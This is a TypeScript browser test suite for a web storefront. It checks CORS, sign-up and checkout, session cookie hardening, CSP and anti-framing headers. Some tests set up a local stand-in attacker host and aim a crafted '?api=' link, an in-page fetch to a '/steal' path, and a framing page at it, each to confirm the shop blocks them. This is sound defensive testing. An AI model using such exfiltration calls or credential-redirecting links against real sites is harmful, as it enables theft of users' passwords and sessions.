// A real browser: headless Debian Chromium loads the storefront page from one origin and calls the
// gateway on another (so CORS preflights and headers are exercised) with Connect-Web; and loads the
// page the shop serves itself (same origin), as `npm start` offers it. The page's API origin is fixed
// at build time: `?api=` in a link must not send a user's password elsewhere (issue 19, item 2).
import { existsSync } from "node:fs";
import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Code, createClient } from "@connectrpc/connect";
import { createConnectTransport } from "@connectrpc/connect-node";
import { type Browser, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GatewayService } from "../../gen/shop/gateway/v1/gateway_pb.ts";
import { createHost, serveStaticFiles, silentLogger } from "../../mesh/host/index.ts";
import type { InProcessShop } from "../../services/in-process-shop.ts";
import { openOrdersDatabase } from "../../services/orders/index.ts";
import { buildWeb } from "../../web/build.ts";
import { withSecurityHeaders } from "../../web/security-headers.ts";
import { startTestShop, uniqueEmail } from "./shop-fixture.ts";

const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
const CHROMIUM_ARGS = [
  "--headless",
  "--no-sandbox",
  "--disable-gpu",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
  "--no-first-run",
];

/** A server of the built page only, on its own port (so its origin differs from the shop's). */
interface WebServer {
  readonly url: string;
  readonly origin: string;
  close(): Promise<void>;
}

/** Serves `dir` from a Weft host with no services of its own (a different origin than the shop). */
async function servePage(dir: string, connectOrigins: () => string[]): Promise<WebServer> {
  const files = serveStaticFiles({ root: dir });
  // The shop's origin is known only after the page servers start (the shop's CORS list names them).
  const host = createHost({ port: 0, logger: silentLogger, httpFallback: (req, res) => withSecurityHeaders(files, { connectOrigins: connectOrigins() })(req, res) });
  const { url } = await host.listen();
  return { url, origin: new URL(url).origin, close: () => host.close() };
}

/** A plain HTTP listener standing in for an attacker's host: records every request that reaches it. */
interface Listener {
  readonly origin: string;
  readonly requests: string[];
  close(): Promise<void>;
}

async function startListener(): Promise<Listener> {
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "access-control-allow-origin": "*", "access-control-allow-headers": "*" }).end("{}");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as { port: number };
  return { origin: `http://127.0.0.1:${port}`, requests, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

let outDir: string;
let crossOriginDir: string;
let web: WebServer;
let strangerWeb: WebServer;
let shop: InProcessShop;
let browser: Browser;
let attacker: Listener;
let gateway: ReturnType<typeof createClient<typeof GatewayService>>;

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) {
    throw new Error(`Chromium not found at ${CHROMIUM}: install Debian's chromium package (apt-get install chromium; .ci/run does this) or set CHROMIUM_PATH`);
  }
  outDir = await mkdtemp(join(tmpdir(), "weft-web-"));
  crossOriginDir = await mkdtemp(join(tmpdir(), "weft-web-cross-"));
  await buildWeb(outDir);
  web = await servePage(crossOriginDir, () => [shop.url]);
  strangerWeb = await servePage(crossOriginDir, () => [shop.url]);
  attacker = await startListener();
  // Only the first page origin may call the API from a browser; the shop also serves the page itself.
  shop = await startTestShop({
    corsAllowedOrigins: [web.origin],
    // Orders in PGlite, as `npm start` keeps them (the store that honours checkout idempotency keys).
    ordersDb: openOrdersDatabase({}),
    httpFallback: withSecurityHeaders(serveStaticFiles({ root: outDir, immutablePrefixes: ["/assets/"] })),
  });
  // The other origins serve a page built to call the shop (the allow-list of one: its build's apiOrigin).
  await buildWeb(crossOriginDir, { apiOrigin: shop.url });
  gateway = createClient(GatewayService, createConnectTransport({ baseUrl: shop.url, httpVersion: "1.1" }));
  // playwright gives every launch a fresh, temporary user-data-dir (it refuses a --user-data-dir argument).
  browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
});

afterAll(async () => {
  await browser?.close();
  await shop?.close();
  await web?.close();
  await strangerWeb?.close();
  await attacker?.close();
  if (outDir) await rm(outDir, { recursive: true, force: true });
  if (crossOriginDir) await rm(crossOriginDir, { recursive: true, force: true });
});

async function openStorefront(from: WebServer): Promise<Page> {
  const page = await browser.newPage();
  await page.goto(`${from.url}/`);
  return page;
}

/** The product table as the page shows it: id, name and stock per row. */
function rows(page: Page) {
  return page.$$eval("#products tr", (trs) =>
    trs.map((tr) => ({
      id: (tr as HTMLElement).dataset.productId,
      name: tr.children[0].textContent,
      stock: tr.querySelector(".stock")?.textContent,
    })),
  );
}

/** Fills and sends the page's sign-up form with a fresh email; resolves once the page shows it signed in. */
async function signUp(page: Page, label: string, password: string, displayName: string): Promise<string> {
  const email = uniqueEmail(label);
  await page.fill('#sign-up input[name="email"]', email);
  await page.fill('#sign-up input[name="password"]', password);
  await page.fill('#sign-up input[name="displayName"]', displayName);
  await page.click("#sign-up button");
  await page.waitForSelector('#account[data-state="signed-in"]', { timeout: 15_000 });
  return email;
}

describe("storefront in headless Chromium", () => {
  it("loads from another origin and shows the products the gateway returns", async () => {
    expect(new URL(web.url).origin).not.toBe(new URL(shop.url).origin);
    const page = await openStorefront(web);
    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
    const expected = await gateway.browse({ pageSize: 10 });
    expect(await rows(page)).toEqual(
      expected.products.map((v) => ({ id: v.product?.id, name: v.product?.name, stock: String(v.available) })),
    );
    expect(await page.textContent("#status")).toBe("10 products");
    await page.close();
  });

  it("shows similar products and recommendations for a visitor from the product they open (content-based cold start)", async () => {
    const page = await openStorefront(web);
    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
    const [first] = await rows(page);
    await page.click(`#products tr[data-product-id="${first!.id}"] a`);
    await page.waitForSelector('#similar[data-state="shown"]', { timeout: 15_000 });
    await page.waitForSelector('#recommended[data-state="shown"]', { timeout: 15_000 });
    const listed = (list: string) => page.$$eval(`#${list} li`, (lis) => lis.map((li) => (li as HTMLElement).dataset.productId));
    const expected = await gateway.getSimilarProducts({ id: first!.id, limit: 5 });
    expect(await listed("similar")).toEqual(expected.products.map((p) => p.id));
    expect(expected.products).toHaveLength(5);
    const { product } = await gateway.getProductDetails({ id: first!.id });
    // Content neighbours of a product share its category (TF-IDF over names, descriptions and tags).
    expect(expected.products.filter((p) => p.category === product!.product!.category).length).toBeGreaterThanOrEqual(4);
    const recommended = await listed("recommended");
    expect(recommended.length).toBeGreaterThan(0);
    expect(recommended).not.toContain(first!.id);
    await page.close();
  });

  it("searches, signs up and buys through Connect-Web with the session cookie (CORS preflight, credentials)", async () => {
    const page = await openStorefront(web);
    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
    await page.fill('#search input[name="query"]', "oak kettle");
    await page.click("#search button");
    await page.waitForFunction(() => Array.from(document.querySelectorAll("#products tr")).every((tr) => tr.textContent?.toLowerCase().includes("kettle")));
    const [first] = await rows(page);
    expect(first.name?.toLowerCase()).toContain("kettle");

    const email = await signUp(page, "browser", "browser-pass-1", "Browser");
    expect(await page.textContent("#account")).toContain(email);

    const before = (await gateway.getProductDetails({ id: first.id! })).product!.available;
    await page.click(`#products tr[data-product-id="${first.id}"] button`);
    await page.waitForSelector('#status[data-state="ordered"]', { timeout: 15_000 });
    expect(await page.textContent("#status")).toMatch(/^Order [0-9a-f-]{36} placed: \$\d+\.\d\d$/);
    await page.waitForSelector("#orders li");
    expect(await page.textContent("#orders li")).toContain(`1 × ${first.name}`);
    expect((await gateway.getProductDetails({ id: first.id! })).product!.available).toBe(before - 1n);
    await page.close();
  });

  it("a Buy whose reply was lost (placed, then the connection reset) re-sends its idempotency key on the next click: one order", async () => {
    const page = await openStorefront(web);
    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
    await signUp(page, "lost-reply", "lost-reply-pass-1", "Lost Reply");
    const product = (await rows(page)).find((row) => row.stock !== "0")!;
    const before = (await gateway.getProductDetails({ id: product.id! })).product!.available;
    const keys: string[] = [];
    let cut = true;
    await page.route("**/shop.gateway.v1.GatewayService/Checkout", async (route) => {
      if (route.request().method() !== "POST") return route.continue();
      keys.push(JSON.parse(route.request().postData() ?? "{}").idempotencyKey);
      if (!cut) return route.continue();
      cut = false;
      // The gateway places the order, but its answer never reaches the page.
      await route.fetch();
      await route.abort("connectionreset");
    });
    await page.click(`#products tr[data-product-id="${product.id}"] button`);
    await page.waitForSelector('#status[data-state="error"]', { timeout: 15_000 });
    await page.click(`#products tr[data-product-id="${product.id}"] button`);
    await page.waitForSelector('#status[data-state="ordered"]', { timeout: 15_000 });
    expect(keys).toHaveLength(2);
    expect(keys[0]).toMatch(/^[0-9a-f]{32}$/);
    expect(keys[1]).toBe(keys[0]);
    await page.waitForSelector("#orders li");
    expect(await page.locator("#orders li").count()).toBe(1);
    expect((await gateway.getProductDetails({ id: product.id! })).product!.available).toBe(before - 1n);
    await page.close();
  });

  it("shows the gateway's error code when checking out without signing in", async () => {
    const page = await openStorefront(web);
    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
    await page.click("#products tr button:not([disabled])");
    await page.waitForSelector('#status[data-state="error"]', { timeout: 15_000 });
    expect(await page.textContent("#status")).toMatch(/^Unauthenticated: sign in first/);
    await page.close();
  });

  it("is refused by CORS when the page's origin is not allowed", async () => {
    const page = await openStorefront(strangerWeb);
    await page.waitForSelector('#status[data-state="error"]', { timeout: 15_000 });
    expect(await page.textContent("#status")).toMatch(/^Unknown: .*fetch/i);
    expect(await rows(page)).toEqual([]);
    await page.close();
  });

  it("works same-origin from the page the shop serves itself, with no ?api=", async () => {
    const page = await browser.newPage();
    const calls: string[] = [];
    const traceparents = new Map<string, string[]>(); // RPC path -> traceparents sent
    page.on("request", (request) => {
      calls.push(`${request.method()} ${request.url()}`);
      const tp = request.headers().traceparent;
      if (tp !== undefined) traceparents.set(new URL(request.url()).pathname, [...(traceparents.get(new URL(request.url()).pathname) ?? []), tp]);
    });
    await page.goto(`${shop.url}/`);
    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
    expect(await page.textContent("#api-url")).toBe(new URL(shop.url).origin);
    const expected = await gateway.browse({ pageSize: 10 });
    expect((await rows(page)).map((row) => row.id)).toEqual(expected.products.map((v) => v.product?.id));

    const email = await signUp(page, "same-origin", "browser-pass-2", "Same Origin");
    const product = (await rows(page)).find((row) => Number(row.stock) > 0)!;
    await page.click(`#products tr[data-product-id="${product.id}"] button`);
    await page.waitForSelector('#status[data-state="ordered"]', { timeout: 15_000 });
    await page.waitForSelector("#orders li");
    expect(await page.textContent("#orders li")).toContain(`1 × ${product.name}`);

    // Everything (page, assets, API calls) went to the shop's own origin; same-origin calls need no preflight.
    expect(calls.length).toBeGreaterThan(3);
    for (const call of calls) expect(new URL(call.split(" ")[1]).origin, call).toBe(new URL(shop.url).origin);
    expect(calls.filter((call) => call.startsWith("OPTIONS "))).toEqual([]);
    expect(calls.some((call) => call.includes("/shop.gateway.v1.GatewayService/Checkout"))).toBe(true);
    // Every API call sent a W3C traceparent; one per action: the buy's calls share a trace the sign-up does not.
    const traceOf = (path: string) => (traceparents.get(`/shop.gateway.v1.GatewayService/${path}`) ?? []).map((tp) => /^00-([0-9a-f]{32})-[0-9a-f]{16}-01$/.exec(tp)?.[1]);
    const [checkoutTrace] = traceOf("Checkout");
    expect(checkoutTrace).toMatch(/^[0-9a-f]{32}$/);
    expect(traceOf("ListMyOrders")).toContain(checkoutTrace);
    expect(traceOf("SignUp")).toHaveLength(1);
    expect(traceOf("SignUp")[0]).not.toBe(checkoutTrace);
    expect(await page.textContent("#trace")).toBe(`trace ${checkoutTrace}`);
    await page.close();
  });

  it("keeps a session across a reload, signs out and signs back in; shows product details; has a favicon", async () => {
    const page = await browser.newPage();
    await page.goto(`${shop.url}/`);
    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
    const email = await signUp(page, "reload", "browser-pass-3", "Reloader");

    await page.reload();
    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
    expect(await page.getAttribute("#account", "data-state")).toBe("signed-in");
    expect(await page.textContent("#account")).toContain(email);
    // The restored token still works: checkout succeeds without signing in again.
    const product = (await rows(page)).find((row) => Number(row.stock) > 0)!;
    await page.click(`#products tr[data-product-id="${product.id}"] button`);
    await page.waitForSelector('#status[data-state="ordered"]', { timeout: 15_000 });

    await page.click("#sign-out");
    await page.waitForSelector('#account[data-state="signed-out"]');
    await page.reload();
    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
    expect(await page.getAttribute("#account", "data-state")).toBe("signed-out");

    await page.fill('#sign-in input[name="email"]', email);
    await page.fill('#sign-in input[name="password"]', "browser-pass-3");
    await page.click("#sign-in button");
    await page.waitForSelector('#account[data-state="signed-in"]', { timeout: 15_000 });
    await page.waitForSelector("#orders li", { timeout: 15_000 });
    expect(await page.textContent("#orders li")).toContain(`1 × ${product.name}`);

    await page.click(`#products tr[data-product-id="${product.id}"] a`);
    await page.waitForSelector('#details[data-state="shown"]', { timeout: 15_000 });
    const details = (await gateway.getProductDetails({ id: product.id! })).product!.product!;
    expect(await page.textContent("#details h3")).toBe(details.name);
    expect(await page.textContent("#details")).toContain(details.description);

    const favicon = await page.request.get(`${shop.url}/favicon.ico`);
    expect(favicon.status()).toBe(200);
    expect(favicon.headers()["content-type"]).toBe("image/x-icon");
    await page.close();
  });
  it("keeps the session in an HttpOnly, SameSite=Lax __Host- cookie no script reads; sign-out revokes it for the next call", async () => {
    const page = await browser.newPage();
    await page.goto(`${shop.url}/`);
    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
    await signUp(page, "cookie", "browser-pass-4", "Cookie");
    const cookies = await page.context().cookies(shop.url);
    expect(cookies.map((c) => c.name)).toEqual(["__Host-weft_session"]);
    const [session] = cookies;
    // Chromium keeps the Secure, __Host- cookie over plain HTTP because 127.0.0.1 is a secure context.
    expect(session).toMatchObject({ domain: "127.0.0.1", path: "/", httpOnly: true, secure: true, sameSite: "Lax" });
    expect(session.value).toMatch(/^[\w-]{43}$/);
    expect(session.expires - Date.now() / 1000).toBeGreaterThan(43_000);
    // No script sees a credential: not in document.cookie, not in storage.
    expect(await page.evaluate(() => document.cookie)).toBe("");
    const stored = await page.evaluate(() => JSON.stringify({ ...sessionStorage, ...localStorage }));
    expect(stored).not.toContain(session.value);
    expect(stored).not.toMatch(/eyJ|accessToken/);
    const asBrowser = (cookie: string) => ({ headers: { cookie: `__Host-weft_session=${cookie}`, origin: shop.url, "sec-fetch-site": "same-origin", "connect-protocol-version": "1" } });
    expect((await gateway.listMyOrders({}, asBrowser(session.value))).orders).toEqual([]);

    await page.click("#sign-out");
    await page.waitForSelector('#account[data-state="signed-out"]');
    expect(await page.context().cookies(shop.url)).toEqual([]);
    // The old id is dead on the server: a copy of the cookie gets UNAUTHENTICATED on the very next call.
    await expect(gateway.listMyOrders({}, asBrowser(session.value))).rejects.toMatchObject({ code: Code.Unauthenticated });
    await page.click("#products tr button:not([disabled])");
    await page.waitForSelector('#status[data-state="error"]', { timeout: 15_000 });
    expect(await page.textContent("#status")).toMatch(/^Unauthenticated: sign in first/);
    await page.close();
  });

  it("ignores ?api= pointing elsewhere: the sign-up goes to the shop, nothing reaches the other host", async () => {
    const page = await browser.newPage();
    const violations: string[] = [];
    page.on("console", (message) => {
      if (message.text().includes("Content Security Policy")) violations.push(message.text());
    });
    // The framing test uses the same other host: only what reaches it from here on counts.
    const earlier = attacker.requests.length;
    await page.goto(`${shop.url}/?api=${attacker.origin}`);
    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
    expect(await page.textContent("#api-url")).toBe(new URL(shop.url).origin);
    const email = await signUp(page, "crafted-link", "crafted-link-pass-3", "Bystander");
    expect(await page.textContent("#account")).toContain(email);
    // Even script on the page cannot reach another origin: connect-src 'self'.
    const escaped = await page.evaluate((url) => fetch(url, { method: "POST", body: "x" }).then(() => "sent", () => "blocked"), `${attacker.origin}/steal`);
    expect(escaped).toBe("blocked");
    expect(attacker.requests.slice(earlier)).toEqual([]);
    expect(violations.some((text) => text.includes("connect-src"))).toBe(true);
    await page.close();
  });

  it("is served with a CSP (connect-src 'self', frame-ancestors 'none'), X-Frame-Options and Referrer-Policy, and cannot be framed", async () => {
    const page = await browser.newPage();
    const response = await page.goto(`${shop.url}/`);
    const headers = response!.headers();
    expect(headers["content-security-policy"]).toContain("connect-src 'self';");
    expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
    expect(headers["content-security-policy"]).toContain("script-src 'self'");
    expect(headers["x-frame-options"]).toBe("DENY");
    expect(headers["referrer-policy"]).toBe("no-referrer");
    // The page itself runs under its policy (no violation: every script and style is its own file).
    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
    // Another site frames it: Chromium refuses to render the shop inside the frame.
    const framer = await browser.newPage();
    await framer.goto(`${attacker.origin}/framer`);
    await framer.setContent(`<iframe id="shop" src="${shop.url}/"></iframe>`);
    await framer.waitForTimeout(0);
    const frame = await (await framer.$("#shop"))!.contentFrame();
    await expect.poll(async () => frame?.url() ?? "", { timeout: 10_000 }).not.toBe("about:blank");
    expect(await frame!.$("#products").catch(() => null)).toBeNull();
    await framer.close();
    await page.close();
  });

  it("ships a bundle that holds only the public API: no internal service or package, in text or in embedded descriptors", async () => {
    const assets = join(outDir, "assets");
    const scripts = (await readdir(assets)).filter((name) => name.endsWith(".js"));
    expect(scripts.length).toBeGreaterThan(0);
    const text = (await Promise.all(scripts.map((name) => readFile(join(assets, name), "utf8")))).join("\n");
    // protobuf-es embeds each file's descriptor as a base64 string literal: decode them all.
    const decoded = [...text.matchAll(/[`"']([A-Za-z0-9+/_-]{40,}={0,2})[`"']/g)].map((m) => Buffer.from(m[1], "base64").toString("latin1"));
    expect(decoded.join("").includes("shop.gateway.v1")).toBe(true); // the scan does see descriptors
    const internal = ["CatalogService", "IdentityService", "InventoryService", "OrderService", "shop.catalog.v1", "shop.identity.v1", "shop.inventory.v1", "shop.orders.v1", "shop/catalog/v1", "shop/identity/v1", "shop/orders/v1"];
    for (const haystack of [text, ...decoded]) for (const name of internal) expect(haystack.includes(name), name).toBe(false);
    // The gateway's validation rules stay on the server: the rule schema they import is a stand-in here.
    for (const haystack of [text, ...decoded]) expect(haystack.includes("StringRules"), "buf.validate rule schema").toBe(false);
  });
});
